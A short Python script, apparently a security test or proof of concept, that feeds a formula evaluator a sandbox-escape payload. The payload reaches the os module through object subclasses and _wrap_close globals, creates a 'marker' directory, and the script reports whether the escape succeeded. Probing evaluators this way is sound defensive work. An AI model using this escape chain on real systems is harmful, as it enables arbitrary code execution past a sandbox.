"""From a tuple the attributes lead to every loaded class, without any name or builtin."""

import sys
from contextlib import suppress
from pathlib import Path

from pricing import FormulaError, evaluate

FORMULA = (
    "[c.__init__.__globals__['mkdir']('marker') for c in ().__class__.__base__.__subclasses__()"
    " if c.__name__ == '_wrap_close']"
)
with suppress(FormulaError, ValueError, AttributeError, SyntaxError, LookupError, TypeError, NameError):
    evaluate(FORMULA, {"cost": 1})
sys.exit(0 if Path("marker").exists() else 1)
